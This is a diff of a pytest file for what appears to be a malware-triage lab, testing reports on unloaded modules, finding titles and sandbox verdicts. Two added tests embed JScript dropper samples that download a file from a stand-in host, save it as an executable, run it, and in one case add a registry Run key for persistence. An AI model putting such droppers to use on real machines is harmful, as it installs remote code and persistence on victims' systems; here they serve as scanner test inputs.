@@ -13,7 +13,7 @@ import msgspec
 import pytest
 
 from athena_lab.api import ChildOptions, TriageOptions
-from athena_lab.errors import EmptySample, InvalidField, NotAFile, QueueFull, UnknownModule
+from athena_lab.errors import EmptySample, InvalidField, ModuleRefused, NotAFile, QueueFull, UnknownModule
 from athena_lab.lab import open_lab
 from athena_lab.many import triage_many
 from athena_lab.report import Report
@@ -66,7 +66,8 @@ async def test_files_inside_are_analysed_as_a_tree(lab):
     assert (eicar.level, eicar.score, eicar.worst[0].id) == ("suspicious", 55, "file-processor/eicar")
     assert (nodes["plain"][1].level, nodes["plain"][1].score) == ("clean-looking", 0)
     assert inner.score == eicar.score == report.conclusion.score  # as bad as what is in it, and no worse
-    assert "analysis-engine/child-suspicious" in {finding.id for finding in report.findings}
+    titles = {finding.id: finding.title for finding in report.findings}
+    assert titles["analysis-engine/child-suspicious"] == f"A file inside is suspicious: {eicar.worst[0].title}"
     assert Report.from_json(report.to_json()).children == report.children
     again = await lab.triage(await lab.sample(eicar.sha256))
     assert again.verdict.level == eicar.level
@@ -240,6 +241,21 @@ async def test_without_the_engine_the_worst_finding_decides(lab):
     assert (report.conclusion, report.verdict.level) == (None, "suspicious")
 
 
+async def test_a_report_says_what_was_unloaded(lab):
+    whole = await lab.triage(EICAR)
+    await lab.unload("crypto")
+    await lab.unload("network")
+    report = await lab.triage(EICAR)
+    assert (whole.unloaded, report.unloaded) == ((), ("crypto", "network"))
+    assert report.verdict.sentence.endswith(" Not everything was analysed: crypto, network are unloaded.")
+    assert Report.from_json(report.to_json()).unloaded == report.unloaded
+    # Who asks for less has all that was asked for.
+    assert (await lab.triage(EICAR, analysis_type="quick")).unloaded == ()
+    assert (await lab.triage(EICAR, modules=["file-processor"])).unloaded == ()
+    await lab.load(["crypto"])
+    assert (await lab.triage(EICAR)).unloaded == ("network",)
+
+
 async def test_the_engine_is_named_with_those_that_it_concludes_from(lab):
     report = await lab.triage(EICAR, modules=["file-processor", "analysis-engine"])
     assert report.conclusion.score == 55
@@ -257,6 +273,39 @@ async def test_a_conclusion_streams_behind_what_it_is_drawn_from(lab):
     assert seen[-2].module == "analysis-engine"
     assert isinstance(seen[-1], Report)
     assert [result.module for result in seen[:-1]].count("analysis-engine") == 1
+
+
+async def test_what_was_not_loaded_has_no_verdict(lab):
+    script = (
+        'var h = new ActiveXObject("MSXML2.XMLHTTP"); h.open("GET", "http://a.example/b", false); h.send();'
+        'var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1; s.Write(h.responseBody);'
+        r's.SaveToFile("C:\\Users\\Public\\a.exe"); new ActiveXObject("WScript.Shell").Run("C:\\Users\\Public\\a.exe");'
+    )
+    report = await lab.triage(await lab.add(script.encode(), "a.js"))
+    (child,) = report.behaviour.children
+    assert (child.kind, child.sha256) == ("stand-in", "")
+    (node,) = report.children
+    assert (node.status, node.level, node.score) == ("left-out", "unknown", None)
+    assert "not known: the sandbox reaches no network" in node.reason
+    with pytest.raises(ModuleRefused, match="no part of the sample"):
+        await lab.extract(report.sample, child.index, module="sandbox")
+
+
+async def test_what_the_sandbox_says_is_not_said_again(lab):
+    script = (
+        'var s = new ActiveXObject("WScript.Shell"); var h = new ActiveXObject("MSXML2.XMLHTTP");'
+        'h.open("GET", "http://a.example/b", false); h.send(); var t = new ActiveXObject("ADODB.Stream"); t.Open();'
+        r't.Type = 1; t.Write(h.responseBody); t.SaveToFile("C:\\a.exe"); s.Run("C:\\a.exe");'
+        r's.RegWrite("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a", "C:\\a.exe");'
+    )
+    report = await lab.triage(await lab.add(script.encode(), "a.js"))
+    telling = [finding.id for finding in report.findings if finding.severity in {"critical", "high"}]
+    assert telling == [
+        "sandbox/downloads-and-runs",
+        "sandbox/persists-autostart",
+        "pattern-matcher/rule-script-host-dropper",
+    ]
+    assert report.verdict.level == "malicious-looking"
 
 
 # -- two beside each other
